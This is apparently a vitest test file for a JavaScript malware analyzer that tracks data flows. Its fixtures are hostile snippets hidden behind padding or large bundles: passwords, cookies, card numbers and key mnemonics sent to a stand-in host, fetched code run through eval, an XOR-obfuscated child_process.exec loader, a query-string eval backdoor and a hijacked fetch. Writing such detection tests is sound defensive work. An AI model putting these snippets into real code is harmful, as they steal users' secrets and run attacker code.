import { describe, expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

describe('between lines that do nothing', () => {
  const comments = (line: string): string => `${line}\n`.repeat(20_000);

  test.each([
    [
      'what is handed on to a request',
      `exports.f = (password) => fetch('https://a.weir.test', { body: password });`,
      'network',
    ],
    [
      'what another file gives',
      `const { get } = require('./get');\nget().then((text) => new Function(text)());`,
      'code',
    ],
  ])('%s is followed', (_what, code, sink) => {
    for (const line of ['', '// nothing is said here'])
      expect(analyzeJs(`${comments(line)}${code}\n${comments(line)}`).flow.flows).toMatchObject([{ sink }]);
  });

  test('a key that is handed to another file is followed', () => {
    const code = `exports.open = (mnemonic) => require('./metrics').report(mnemonic);\n`;
    const { localCalls } = analyzeJs(comments('') + code).flow;
    expect(localCalls.map(({ labels }) => labels & LABEL.keyMaterial)).toEqual([LABEL.keyMaterial]);
  });
});

describe('behind code that is as large as a bundle', () => {
  const bundle = Array.from(
    { length: 2_500 },
    (_, i) =>
      `exports.d${i} = (s) => ({ text: atob(s), env: process.env.NODE_ENV, api: () => fetch('https://api.weir.test/v${i}') });\n`,
  ).join('');

  test('a function that runs code, handed over to be called, is followed', () => {
    const { flow } = analyzeJs(`${bundle}fetch('https://a.weir.test/p').then((r) => r.text()).then(eval);\n`);
    expect(flow.flows).toMatchObject([{ sink: 'code', sinkName: 'eval' }]);
  });

  test.each([
    [
      'a password in a parameter',
      `exports.hash = (password) => {\n  fetch('https://a.weir.test/o', { method: 'POST', body: password });\n};\n`,
    ],
    [
      'a password in a member',
      `exports.limit = (req, res) => {\n  fetch('https://a.weir.test/o', { method: 'POST', body: req.body.password });\n};\n`,
    ],
    [
      'a field of a card',
      `exports.check = (root) => {\n  const card = root.querySelector('[autocomplete="cc-number"]');\n  fetch('https://a.weir.test/o', { method: 'POST', body: card.value });\n};\n`,
    ],
  ])('%s is followed to a request', (_what, code) => {
    const sent = analyzeJs(bundle + code).flow.flows.filter(
      ({ labels }) => (labels & LABEL.secretParam) !== 0,
    );
    expect(sent).toMatchObject([{ sink: 'network', targets: [{ text: 'https://a.weir.test/o' }] }]);
  });

  test('where loading it connects is followed', () => {
    const code = `const link = new WebSocket('wss://a.weir.test/exit');\nlink.on('message', (raw) => {\n  const { host, port } = JSON.parse(raw);\n  require('net').connect(port, host);\n});\n`;
    const { flow } = analyzeJs(bundle + code);
    expect(flow.flows.filter(({ sinkName }) => sinkName === 'net.connect')).toMatchObject([{ live: true }]);
  });

  const plain = Array.from({ length: 2_000 }, (_, i) => `exports.add${i} = (a, b) => a + b;\n`).join('');

  test('what a visitor sends is followed to where it runs', () => {
    const code = `exports.middleware = () => (req, res, next) => {\n  if (req.query.q) res.send(eval(req.query.q));\n  else next();\n};\n`;
    const run = analyzeJs(plain + code).flow.flows.filter(({ sink }) => sink === 'code');
    expect(run.map(({ labels }) => labels & LABEL.visitor)).toEqual([LABEL.visitor]);
  });

  test('a key is followed to another file', () => {
    const code = `const { report } = require('./metrics');\nexports.open = (mnemonic) => report(mnemonic);\n`;
    const { localCalls } = analyzeJs(plain + code).flow;
    expect(localCalls.map(({ labels }) => labels & LABEL.keyMaterial)).toEqual([LABEL.keyMaterial]);
  });

  test('a loop that decodes is run', () => {
    const codes = Buffer.from('require("child_process").exec("id")').map((byte) => byte ^ 7);
    const loop = `let s = '';\nfor (const n of [${codes.join(',')}]) s += String.fromCharCode(n ^ 7);\neval(s);\n`;
    expect(analyzeJs(bundle + loop).codeSinks).toMatchObject([
      { text: 'require("child_process").exec("id")' },
    ]);
  });

  test('what an export runs is known', () => {
    const { exportRuns } = analyzeJs(`${bundle}exports.start = () => require('child_process').exec('id');\n`);
    expect(exportRuns?.runs.get('')?.length ?? 0).toBeGreaterThan(0);
  });

  test('what an export runs is known behind twenty thousand others', () => {
    const { exportRuns } = analyzeJs(
      `${bundle.repeat(8)}exports.start = () => require('child_process').exec('id');\n`,
    );
    expect(exportRuns?.runs.get('')?.length ?? 0).toBeGreaterThan(0);
  });

  test('exports that all run the same are told apart only as far as that stays small', () => {
    const calls = Array.from({ length: 2_000 }, (_, i) => `function f${i}() {}\n`).join('');
    const all = `function all() {${Array.from({ length: 2_000 }, (_, i) => `f${i}();`).join('')}}\n`;
    const exported = Array.from({ length: 400 }, (_, i) => `exports.e${i} = all;\n`).join('');
    const { exportRuns } = analyzeJs(calls + all + exported);

    expect(exportRuns?.runs.get('')).toHaveLength(2_001);
    expect(exportRuns?.runs.size).toBeLessThan(200);
  });

  test('what a page keeps is followed', () => {
    const { flow } = analyzeJs(
      `${bundle}fetch('https://a.weir.test/c', { method: 'POST', body: document.cookie });\n`,
    );
    expect(flow.flows).toMatchObject([{ sink: 'network' }]);
  });

  test('what a replaced function is given is followed', () => {
    const { flow } = analyzeJs(
      `${bundle}const real = globalThis.fetch;\nglobalThis.fetch = (url, options) => real('https://a.weir.test/h', { body: options.headers });\n`,
    );
    expect(flow.flows).toMatchObject([{ sink: 'network' }]);
  });
});
